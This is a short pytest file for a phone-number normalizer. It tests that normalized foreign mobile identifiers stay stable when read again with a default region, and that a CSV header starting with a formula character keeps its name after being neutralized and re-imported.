@pytest.mark.parametrize(
    ("raw", "region"),
    [("+34 612 34 56 78", "DE"), ("+33 6 12 34 56 78", "IT"), ("+1 201 555 0123", "MX"), ("+44 7400 123456", "DE")],
)
def test_digits_identifier_is_read_again_as_the_same_number_with_a_region(raw: str, region: str) -> None:
    """A foreign mobile's digits identifier was read again, with a default region, as a national number of that
    region ('34612345678' with DE -> '4934612345678'). The mobile reading now wins over a national one that is not a
    mobile; when both are mobiles the region decides (the ambiguity the idempotence property steers around)."""
    first = normalize_phone(raw, region).identifier
    assert first is not None
    assert normalize_phone(first, region).identifier == first


def test_a_hostile_header_reads_the_same_from_the_errors_file() -> None:
    """A header starting with a formula character ('+Phone') was written neutralized to the errors file and read
    back as "'+Phone", so the re-imported errors named another column: headers are now unneutralized when read."""
    assert _reimported_headers_keep_their_name()
